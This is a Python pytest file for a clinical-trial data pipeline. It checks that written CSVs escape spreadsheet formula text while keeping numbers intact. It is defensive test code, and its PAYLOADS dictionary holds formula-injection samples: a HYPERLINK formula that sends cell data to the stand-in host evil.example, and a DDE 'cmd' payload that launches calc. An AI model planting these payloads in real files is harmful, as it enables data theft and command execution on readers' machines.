"""Formula injection: every CSV the pipeline writes is safe to open in a spreadsheet.

Formula text in a free-text CRF field is data, not a validation failure (a
participant may well write "-2 days off" or "=)"): validation accepts it, the
validated tables keep it verbatim, and every CSV written under results/ goes
through io.write_csv, which puts an apostrophe before text cells starting with
=, +, -, @, tab or carriage return while numbers (also negative ones) stay numbers.
"""
from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest

from feasibility.io import write_csv
from feasibility.validation import Failure, failures_frame

from projectcopy import copy_project, run_snakemake
from test_validation import edit_cell

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PAYLOADS = {   # (file, record, field, row) -> text typed into a free-text field
    ("adverse_events.csv", "PP23", "ae_description", 0): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ("status_changes.csv", "PP03", "sc_details", 0): "+1+1",
    ("status_changes.csv", "PP03", "sc_details", 1): "@SUM(A1)",
    ("placements.csv", "PP01", "plc_role", 0): "-2+3",
    ("questionnaires_week14.csv", "PP04", "emp_job_title", 0): "=cmd|' /C calc'!A0",
}
# a record ID may start with '-' (pattern [A-Za-z0-9_-]); PP26 appears in a scoring log
RENAMED = ("PP26", "-PP26")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def unsafe_cells(text: str) -> list[str]:
    """Cells of a CSV text that a spreadsheet would take for a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_START) and not _is_number(cell)]


def test_write_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    df = pd.DataFrame({
        "text": [*PAYLOADS.values(), "\tTab", "plain", "-0.4 (-2.9 to 2.0)"],
        "number": [-0.4, 1.0, -12.0, 0.0, 3.5, -1e-3, 2.0, None],
    })
    write_csv(tmp_path / "out.csv", df)
    text = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert unsafe_cells(text) == []
    back = pd.read_csv(tmp_path / "out.csv")
    # each formula kept, behind one apostrophe; ordinary text untouched
    assert back["text"].tolist() == ["'" + p for p in PAYLOADS.values()] + [
        "'\tTab", "plain", "'-0.4 (-2.9 to 2.0)"]
    assert back["number"].dtype == float and back["number"].iloc[0] == -0.4


def test_a_failing_cell_written_as_csv_is_neutralised(tmp_path):
    # a formula typed into a coded field fails validation; its value in a CSV of failures is inert
    failure = Failure("questionnaires_baseline.csv", 5, "PP04", "baseline_arm_1", "eq5d_vas",
                      "=cmd|' /C calc'!A0", "not a number")
    write_csv(tmp_path / "failures.csv", failures_frame([failure]))
    text = (tmp_path / "failures.csv").read_text(encoding="utf-8")
    assert unsafe_cells(text) == []
    assert "'=cmd|' /C calc'!A0" in pd.read_csv(tmp_path / "failures.csv")["value"].tolist()


@pytest.mark.slow
def test_pipeline_with_formulas_in_free_text_writes_only_safe_csvs(tmp_path):
    proj = tmp_path / "proj"
    proj.mkdir()
    copy_project(proj)
    raw = proj / "data" / "raw"
    for (file, record, field, row), text in PAYLOADS.items():
        edit_cell(raw, file, record, field, text, row=row)
    old, new = RENAMED
    for path in raw.glob("*.csv"):
        path.write_text(re.sub(rf"(?<![\w-]){old}(?!\w)", new, path.read_text(encoding="utf-8")),
                        encoding="utf-8")

    res = run_snakemake(proj)
    assert res.returncode == 0, (res.stdout + res.stderr)[-3000:]

    # validation accepted the free text and kept it verbatim
    ae = pd.read_parquet(proj / "results" / "validated" / "adverse_events.parquet")
    assert PAYLOADS[("adverse_events.csv", "PP23", "ae_description", 0)] in ae["ae_description"].tolist()

    written = sorted((proj / "results").rglob("*.csv"))
    assert len(written) >= 10
    unsafe = {p.relative_to(proj).as_posix(): cells for p in written
              if (cells := unsafe_cells(p.read_text(encoding="utf-8")))}
    assert unsafe == {}
    # the renamed record reached a written CSV, neutralised (so the check above was exercised)
    cells = [c for p in written for row in csv.reader(io.StringIO(p.read_text(encoding="utf-8")))
             for c in row]
    assert "'" + new in cells and new not in cells
    # and negative numbers are still numbers somewhere in the tables
    assert any(c.startswith("-") and _is_number(c) for c in cells)
